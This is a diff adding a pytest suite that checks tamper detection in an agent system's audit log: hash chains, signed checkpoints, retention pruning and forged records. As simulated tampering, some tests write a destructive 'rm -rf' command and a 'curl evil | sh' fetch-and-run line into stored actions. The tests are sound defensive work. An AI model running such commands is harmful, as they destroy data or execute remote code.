@@ -0,0 +1,452 @@
+"""Brutal tests for the audit hash chain, signed checkpoints and verification."""
+
+from __future__ import annotations
+
+import asyncio
+import stat
+from datetime import datetime, timezone
+
+import pytest
+import pytest_asyncio
+
+from agentic.memory.chain import (
+    CHAINED_COLUMNS,
+    GENESIS_HASH,
+    link,
+    load_signing_key,
+    sign,
+    sign_verified,
+)
+from agentic.memory.dictionary import decoded, find
+from agentic.memory.integrity import AuditVerifier
+from agentic.memory.models import ActionRecord, ExecutionRecord, RequestRecord
+from agentic.memory.retention import RetentionManager, RetentionPolicy
+from agentic.memory.store import MemoryStore
+from agentic.models.intent import Entity
+
+KEY = b"k" * 64
+
+
+async def _seed(store, request_id, created_at=None):
+    """One request, action, decision and execution: four chained rows."""
+    await store.log_request(
+        RequestRecord(
+            id=request_id,
+            raw_query=f"restart {request_id}",
+            intent_type="NETWORK",
+            confidence=0.9,
+            created_at=created_at or datetime.now(timezone.utc),
+        )
+    )
+    await store.log_policy_decision(f"{request_id}-a", 2, True, reason="ok")
+    await store.log_action(
+        ActionRecord(
+            id=f"{request_id}-a",
+            request_id=request_id,
+            action_type="SYSTEMCTL_RESTART",
+            description="d",
+        )
+    )
+    await store.log_execution(
+        ExecutionRecord(id=f"{request_id}-e", action_id=f"{request_id}-a", success=True)
+    )
+    await store.flush()
+
+
+async def _exec(store, sql, params=()):
+    db = store._get_db()
+    await db.execute(sql, params)
+    await db.commit()
+
+
+@pytest_asyncio.fixture
+async def keyed_store(tmp_path):
+    store = MemoryStore(
+        tmp_path / "audit.db",
+        signing_key_path=tmp_path / "audit.key",
+        checkpoint_interval=4,
+    )
+    await store.initialize()
+    yield store
+    await store.close()
+
+
+class TestChainPrimitives:
+    def test_link_depends_on_previous_hash_and_values(self):
+        a = link(GENESIS_HASH, "requests", ["r1", "q", "FOCUS", 0.9, "t"])
+        assert a == link(GENESIS_HASH, "requests", ("r1", "q", "FOCUS", 0.9, "t"))
+        assert a != link(a, "requests", ["r1", "q", "FOCUS", 0.9, "t"])
+        assert a != link(GENESIS_HASH, "actions", ["r1", "q", "FOCUS", 0.9, "t"])
+        assert a != link(GENESIS_HASH, "requests", ["r1", "q", "FOCUS", 0.91, "t"])
+
+    def test_added_columns_at_default_hash_like_pre_upgrade_rows(self):
+        old = ["a", "r", "SYSTEMCTL_STOP", "d", "c", 2, 1]
+        assert link(GENESIS_HASH, "actions", [*old, "", "{}", "", "UNKNOWN"]) == link(
+            GENESIS_HASH, "actions", old
+        )
+        assert link(
+            GENESIS_HASH, "actions", [*old, "nginx", "{}", "", "UNKNOWN"]
+        ) != link(GENESIS_HASH, "actions", old)
+
+    def test_signature_binds_all_fields(self):
+        base = sign(KEY, 4, "h", "t")
+        assert base != sign(KEY, 5, "h", "t")
+        assert base != sign(KEY, 4, "h2", "t")
+        assert base != sign(b"other", 4, "h", "t")
+
+    def test_signing_key_created_private_and_reused(self, tmp_path):
+        path = tmp_path / "keys" / "audit.key"
+        key = load_signing_key(path)
+        assert len(key) == 64
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600
+        assert load_signing_key(path) == key
+
+
+class TestStoreChaining:
+    def test_rejects_negative_checkpoint_interval(self):
+        with pytest.raises(ValueError, match="checkpoint_interval"):
+            MemoryStore(":memory:", checkpoint_interval=-1)
+
+    @pytest.mark.asyncio
+    async def test_rows_chained_in_commit_order(self, temp_db):
+        await _seed(temp_db, "r1")
+        prev = GENESIS_HASH
+        db = temp_db._get_db()
+        order = ["requests", "policy_decisions", "actions", "execution_results"]
+        for seq, table in enumerate(order, start=1):
+            # The chain covers the decoded strings of dictionary-encoded columns.
+            cols = ", ".join(
+                decoded(d, table) if (d := find(table, c)) else c
+                for c in CHAINED_COLUMNS[table]
+            )
+            cursor = await db.execute(
+                f"SELECT chain_seq, chain_hash, {cols} FROM {table}"
+            )
+            row = await cursor.fetchone()
+            assert row[0] == seq
+            prev = link(prev, table, row[2:])
+            assert row[1] == prev
+        cursor = await db.execute("SELECT seq, hash FROM audit_chain_head")
+        assert await cursor.fetchone() == (4, prev)
+
+    @pytest.mark.asyncio
+    async def test_unchained_batch_leaves_head_alone(self, temp_db):
+        await temp_db._enqueue("INSERT INTO blobs VALUES ('h', 'zlib', 0, x'')", ())
+        await temp_db.flush()
+        cursor = await temp_db._get_db().execute("SELECT seq FROM audit_chain_head")
+        assert (await cursor.fetchone())[0] == 0
+
+    @pytest.mark.asyncio
+    async def test_periodic_signed_checkpoints(self, keyed_store, tmp_path):
+        await _seed(keyed_store, "r1")
+        await _seed(keyed_store, "r2")
+        await keyed_store.log_request(
+            RequestRecord(id="r3", raw_query="q", intent_type="FOCUS", confidence=0.9)
+        )
+        await keyed_store.flush()
+        rows = await keyed_store._fetchall(
+            "SELECT seq, chain_hash, created_at, signature FROM audit_checkpoints"
+        )
+        assert [r[0] for r in rows] == [4, 8]
+        key = load_signing_key(tmp_path / "audit.key")
+        for seq, chain_hash, created_at, signature in rows:
+            assert signature == sign(key, seq, chain_hash, created_at)
+
+    @pytest.mark.asyncio
+    async def test_no_checkpoints_without_key_or_interval(self, temp_db, tmp_path):
+        await _seed(temp_db, "r1")
+        store = MemoryStore(
+            ":memory:", signing_key_path=tmp_path / "k", checkpoint_interval=0
+        )
+        await store.initialize()
+        await _seed(store, "r1")
+        for s in (temp_db, store):
+            assert await s._fetchall("SELECT * FROM audit_checkpoints") == []
+        assert not (tmp_path / "k").exists()
+        assert temp_db.signing_key() is None
+        assert store.signing_key() == load_signing_key(tmp_path / "k")
+        await store.close()
+
+    @pytest.mark.asyncio
+    async def test_two_writers_share_one_chain(self, tmp_path):
+        a = MemoryStore(tmp_path / "audit.db")
+        b = MemoryStore(tmp_path / "audit.db")
+        await a.initialize()
+        await b.initialize()
+        await asyncio.gather(
+            *(
+                _seed(s, f"{name}{i}")
+                for i in range(5)
+                for name, s in (("a", a), ("b", b))
+            )
+        )
+        report = await AuditVerifier(a, KEY).verify()
+        assert report.ok, report.problems
+        assert report.rows_checked == 40
+        await a.close()
+        await b.close()
+
+
+class TestAuditVerifier:
+    def test_rejects_bad_page_size(self, temp_db):
+        with pytest.raises(ValueError, match="page_size"):
+            AuditVerifier(temp_db, KEY, page_size=0)
+
+    @pytest.mark.asyncio
+    async def test_empty_log_verifies_without_checkpoint(self, temp_db):
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert report.ok
+        assert (report.start_seq, report.end_seq, report.rows_checked) == (0, 0, 0)
+        assert await temp_db._fetchall("SELECT * FROM audit_checkpoints") == []
+
+    @pytest.mark.asyncio
+    async def test_incremental_from_last_verified_checkpoint(self, temp_db):
+        verifier = AuditVerifier(temp_db, KEY, page_size=3)
+        await _seed(temp_db, "r1")
+        await _seed(temp_db, "r2")
+        first = await verifier.verify()
+        assert first.ok
+        assert (first.start_seq, first.end_seq, first.rows_checked) == (0, 8, 8)
+
+        again = await verifier.verify()
+        assert (again.start_seq, again.rows_checked) == (8, 0)
+
+        await _seed(temp_db, "r3")
+        third = await verifier.verify()
+        assert (third.start_seq, third.end_seq, third.rows_checked) == (8, 12, 4)
+
+        full = await verifier.verify(full=True)
+        assert full.ok and full.rows_checked == 12
+
+    @pytest.mark.asyncio
+    async def test_edited_row_detected_and_not_checkpointed(self, temp_db):
+        await _seed(temp_db, "r1")
+        await _exec(temp_db, "UPDATE actions SET command = 'rm -rf /tmp/x'")
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert not report.ok
+        assert report.problems == ("seq 3 (actions r1-a): hash mismatch",)
+        assert await temp_db._fetchall("SELECT * FROM audit_checkpoints") == []
+
+    @pytest.mark.asyncio
+    async def test_edited_entities_detected(self, temp_db):
+        await temp_db.log_request(
+            RequestRecord(
+                id="r1",
+                raw_query="suspend vlc",
+                intent_type="FOCUS",
+                confidence=0.9,
+                entities=[Entity(name="process", value="vlc")],
+            )
+        )
+        await temp_db.flush()
+        assert (await AuditVerifier(temp_db, KEY).verify(full=True)).ok
+        await _exec(temp_db, "UPDATE requests SET entities = '[]'")
+        report = await AuditVerifier(temp_db, KEY).verify(full=True)
+        assert report.problems == ("seq 1 (requests r1): hash mismatch",)
+
+    @pytest.mark.asyncio
+    async def test_edited_rollback_command_detected(self, temp_db):
+        await _seed(temp_db, "r1")
+        await _exec(temp_db, "UPDATE actions SET rollback_command = 'curl evil | sh'")
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert report.problems == ("seq 3 (actions r1-a): hash mismatch",)
+
+    @pytest.mark.asyncio
+    async def test_deleted_rows_detected(self, temp_db):
+        await _seed(temp_db, "r1")
+        await _exec(temp_db, "DELETE FROM policy_decisions")
+        await _exec(temp_db, "DELETE FROM execution_results")
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert report.problems == (
+            "seq 2: row missing",
+            "seq 3 (actions r1-a): hash mismatch",
+            "seq 4: row missing",
+            "seq 4: chain head does not match the last row",
+        )
+
+    @pytest.mark.asyncio
+    async def test_edit_before_verified_checkpoint_not_rescanned(self, temp_db):
+        await _seed(temp_db, "r1")
+        assert (await AuditVerifier(temp_db, KEY).verify()).ok
+        await _exec(temp_db, "UPDATE requests SET raw_query = 'edited'")
+        assert (await AuditVerifier(temp_db, KEY).verify()).ok
+        assert not (await AuditVerifier(temp_db, KEY).verify(full=True)).ok
+
+    @pytest.mark.asyncio
+    async def test_forged_verified_checkpoint_forces_full_check(self, temp_db):
+        await _seed(temp_db, "r1")
+        await _exec(
+            temp_db,
+            "INSERT INTO audit_checkpoints (seq, chain_hash, created_at, signature, verified_at) "
+            "VALUES (4, 'x', 't', 'forged', 't')",
+        )
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert report.start_seq == 0
+        assert report.rows_checked == 4
+        assert report.problems[0].endswith("bad signature")
+
+    @pytest.mark.asyncio
+    async def test_promoted_periodic_checkpoint_is_not_a_resume_point(
+        self, keyed_store, tmp_path
+    ):
+        for request_id in ("r1", "r2", "r3"):
+            await _seed(keyed_store, request_id)
+        key = load_signing_key(tmp_path / "audit.key")
+        await _exec(
+            keyed_store, "UPDATE requests SET raw_query = 'edited' WHERE id = 'r2'"
+        )
+        # Marking the newest store-written checkpoint verified must not let
+        # an incremental check skip the edit before it.
+        await _exec(
+            keyed_store,
+            "UPDATE audit_checkpoints SET verified_at = created_at "
+            "WHERE id = (SELECT MAX(id) FROM audit_checkpoints)",
+        )
+        report = await AuditVerifier(keyed_store, key).verify()
+        assert not report.ok
+        assert report.start_seq == 0
+        assert report.problems[0].endswith("bad signature")
+        assert "seq 5 (requests r2): hash mismatch" in report.problems
+
+    @pytest.mark.asyncio
+    async def test_rewritten_chain_contradicts_signed_checkpoint(
+        self, keyed_store, tmp_path
+    ):
+        await _seed(keyed_store, "r1")
+        await _seed(keyed_store, "r2")
+        key = load_signing_key(tmp_path / "audit.key")
+        # Rewrite a row and recompute every later hash, as an attacker without
+        # the key would: the chain is self-consistent but not what was signed.
+        await _exec(
+            keyed_store, "UPDATE requests SET raw_query = 'edited' WHERE id = 'r1'"
+        )
+        db = keyed_store._get_db()
+        prev = GENESIS_HASH
+        for seq in range(1, 9):
+            for table, cols in CHAINED_COLUMNS.items():
+                values = ", ".join(
+                    decoded(d, table) if (d := find(table, c)) else c for c in cols
+                )
+                cursor = await db.execute(
+                    f"SELECT {values} FROM {table} WHERE chain_seq = ?", (seq,)
+                )
+                row = await cursor.fetchone()
+                if row is not None:
+                    prev = link(prev, table, row)
+                    await db.execute(
+                        f"UPDATE {table} SET chain_hash = ? WHERE chain_seq = ?",
+                        (prev, seq),
+                    )
+        await db.execute("UPDATE audit_chain_head SET hash = ?", (prev,))
+        await db.commit()
+        report = await AuditVerifier(keyed_store, key).verify()
+        assert [p.split(": ", 1)[1] for p in report.problems] == [
+            "chain diverges from signed hash",
+            "chain diverges from signed hash",
+        ]
+        assert report.checkpoints_checked == 2
+
+    @pytest.mark.asyncio
+    async def test_forged_periodic_checkpoint(self, keyed_store):
+        await _seed(keyed_store, "r1")
+        report = await AuditVerifier(keyed_store, b"wrong key").verify()
+        assert report.problems == ("checkpoint 1 at seq 4: bad signature",)
+
+    @pytest.mark.asyncio
+    async def test_truncated_tail_caught_by_later_checkpoint(
+        self, keyed_store, tmp_path
+    ):
+        await _seed(keyed_store, "r1")
+        await _exec(keyed_store, "DELETE FROM execution_results")
+        await _exec(
+            keyed_store,
+            "UPDATE audit_chain_head SET seq = 3, hash = (SELECT chain_hash FROM actions)",
+        )
+        report = await AuditVerifier(
+            keyed_store, load_signing_key(tmp_path / "audit.key")
+        ).verify()
+        assert report.problems == (
+            "checkpoint 1 at seq 4: refers to rows beyond the chain head",
+        )
+
+    @pytest.mark.asyncio
+    async def test_problem_list_is_capped(self, temp_db):
+        for i in range(6):
+            await _seed(temp_db, f"r{i}")
+        await _exec(temp_db, "UPDATE actions SET description = 'x'")
+        await _exec(temp_db, "UPDATE requests SET raw_query = 'x'")
+        await _exec(temp_db, "UPDATE execution_results SET output = 'x'")
+        # Editing a lookup value edits every row that uses it.
+        await _exec(temp_db, "UPDATE decision_reasons SET value = 'x'")
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert len(report.problems) == 20
+
+    @pytest.mark.asyncio
+    async def test_retention_gaps_are_bridged(self, keyed_store, tmp_path):
+        key = load_signing_key(tmp_path / "audit.key")
+        await _seed(keyed_store, "old", datetime(2024, 1, 5, tzinfo=timezone.utc))
+        await _seed(keyed_store, "new")
+        await RetentionManager(keyed_store, RetentionPolicy(max_age_days=30)).run()
+        assert len(await keyed_store._fetchall("SELECT * FROM audit_chain_pruned")) == 4
+
+        report = await AuditVerifier(keyed_store, key).verify()
+        assert report.ok, report.problems
+        assert (
+            report.rows_checked,
+            report.rows_pruned,
+            report.checkpoints_checked,
+        ) == (4, 4, 2)
+        assert await keyed_store._fetchall("SELECT * FROM audit_chain_pruned") == []
+
+    @pytest.mark.asyncio
+    async def test_forged_pruned_links_do_not_hide_deleted_rows(
+        self, keyed_store, tmp_path
+    ):
+        key = load_signing_key(tmp_path / "audit.key")
+        await _seed(keyed_store, "old")
+        await _seed(keyed_store, "new")
+        # Whoever can delete rows can also write the links that would bridge them.
+        for table in ("execution_results", "policy_decisions", "actions", "requests"):
+            await _exec(
+                keyed_store,
+                f"INSERT INTO audit_chain_pruned (seq, chain_hash, signature) SELECT chain_seq, chain_hash, ? "
+                f"FROM {table} WHERE chain_seq <= 4",
+                ("forged",),
+            )
+            await _exec(keyed_store, f"DELETE FROM {table} WHERE chain_seq <= 4")
+
+        report = await AuditVerifier(keyed_store, key).verify()
+        assert not report.ok
+        assert report.problems[0] == "seq 1: row missing; its pruned link is not signed"
+        assert len(report.problems) == 4
+
+    @pytest.mark.asyncio
+    async def test_retention_without_a_key_leaves_unsigned_links(self, temp_db):
+        await _seed(temp_db, "old", datetime(2024, 1, 5, tzinfo=timezone.utc))
+        await RetentionManager(temp_db, RetentionPolicy(max_age_days=30)).run()
+        report = await AuditVerifier(temp_db, KEY).verify()
+        assert report.rows_pruned == 4
+        assert all(p.endswith("pruned link is not signed") for p in report.problems)
+
+    @pytest.mark.asyncio
+    async def test_retention_after_verification_records_nothing(self, temp_db):
+        await _seed(temp_db, "old", datetime(2024, 1, 5, tzinfo=timezone.utc))
+        await temp_db.log_policy_decision("denied", 4, False)
+        await temp_db.flush()
+        await _exec(
+            temp_db,
+            "UPDATE policy_decisions SET created_at = '2024-01-05' WHERE action_id = 'denied'",
+        )
+        # The edit above breaks the chain; verify up to the head anyway by
+        # re-signing a checkpoint there, as a passing check would have.
+        head = (await temp_db._fetchall("SELECT seq, hash FROM audit_chain_head"))[0]
+        await _exec(
+            temp_db,
+            "INSERT INTO audit_checkpoints (seq, chain_hash, created_at, signature, verified_at) "
+            "VALUES (?, ?, 't', ?, 't')",
+            (head[0], head[1], sign_verified(KEY, head[0], head[1], "t", "t")),
+        )
+        report = await RetentionManager(temp_db, RetentionPolicy(max_age_days=30)).run()
+        assert (report.requests_removed, report.decisions_removed) == (1, 1)
+        assert await temp_db._fetchall("SELECT * FROM audit_chain_pruned") == []
+        assert (await AuditVerifier(temp_db, KEY).verify()).ok